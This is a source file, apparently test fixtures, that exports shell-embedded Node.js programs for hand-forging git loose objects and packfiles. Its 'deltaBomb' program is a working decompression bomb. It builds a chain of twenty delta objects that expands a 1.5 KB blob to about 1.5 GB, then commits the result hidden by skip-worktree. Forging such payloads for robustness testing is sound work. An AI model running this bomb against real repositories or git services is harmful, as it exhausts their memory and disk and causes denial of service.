/** Programs that agents run to make objects that git itself would not make. */

/** The beginning of one: it ends with a quote. `write` makes a loose object, `pack` one pack of many. */
export const forge = `"$NODE" -e '
const { createHash } = require("crypto"), fs = require("fs"), { deflateSync } = require("zlib");
const run = (...args) => require("child_process").execFileSync("git", args, { encoding: "utf8" }).trim();
const named = (type, body) => Buffer.concat([Buffer.from(type + " " + body.length + "\\0"), body]);
const idOf = (type, body) => createHash("sha1").update(named(type, body)).digest("hex");
const write = (type, body) => {
  const id = idOf(type, body), folder = ".git/objects/" + id.slice(0, 2), path = folder + "/" + id.slice(2);
  fs.mkdirSync(folder, { recursive: true });
  if (!fs.existsSync(path)) fs.writeFileSync(path, deflateSync(named(type, body), { level: 1 }));
  return id;
};
const entry = (mode, name, id) => Buffer.concat([Buffer.from(mode + " " + name + "\\0"), Buffer.from(id, "hex")]);
const commit = (tree) => run("update-ref", "HEAD", run("commit-tree", "-m", "forged", "-p", "HEAD", tree));
const varint = (n) => {
  const out = [];
  for (; n > 127; n = Math.floor(n / 128)) out.push((n & 127) | 128);
  return Buffer.from([...out, n]);
};
const header = (type, n) => {
  const low = (type << 4) | (n & 15);
  return n < 16 ? Buffer.from([low]) : Buffer.concat([Buffer.from([low | 128]), varint(Math.floor(n / 16))]);
};
const pack = (objects) => {
  const head = Buffer.from("PACK\\0\\0\\0\\2\\0\\0\\0\\0", "latin1");
  head.writeUInt32BE(objects.length, 8);
  const body = Buffer.concat([head, ...objects.flat()]);
  const path = ".git/objects/pack/pack-" + createHash("sha1").update(body).digest("hex");
  fs.mkdirSync(".git/objects/pack", { recursive: true });
  fs.writeFileSync(path + ".pack", Buffer.concat([body, createHash("sha1").update(body).digest()]));
  run("index-pack", "-o", path + ".idx", path + ".pack");
};`;

/** Commits a file of 1.5 GB: each object in a pack is the one before, twice, from 1.5 KB in twenty steps. */
export const deltaBomb = `${forge}
const most = 0xffff00, first = Buffer.alloc(1536, "x"), piece = Buffer.alloc(1536 * 1024, "x");
const idOfX = (length) => {
  const hash = createHash("sha1").update("blob " + length + "\\0");
  for (let left = length; left > 0; left -= piece.length) hash.update(left < piece.length ? piece.subarray(0, left) : piece);
  return hash.digest("hex");
};
let length = first.length, id = idOfX(length);
const objects = [[header(3, length), deflateSync(first)]];
for (let step = 0; step < 20; step++) {
  const copies = [];
  for (const half of [0, 1])
    for (let at = 0; at < length; at += most) {
      const n = Math.min(most, length - at);
      copies.push(0xff, ...[0, 8, 16, 24].map((bits) => (at >>> bits) & 255), ...[0, 8, 16].map((bits) => (n >>> bits) & 255));
    }
  const delta = Buffer.concat([varint(length), varint(2 * length), Buffer.from(copies)]);
  objects.push([header(7, delta.length), Buffer.from(id, "hex"), deflateSync(delta)]);
  length *= 2;
  id = idOfX(length);
}
pack(objects);
run("update-index", "--add", "--cacheinfo", "100644," + id + ",bomb");
run("commit", "--quiet", "-m", "bomb");
run("update-index", "--skip-worktree", "bomb");'`;
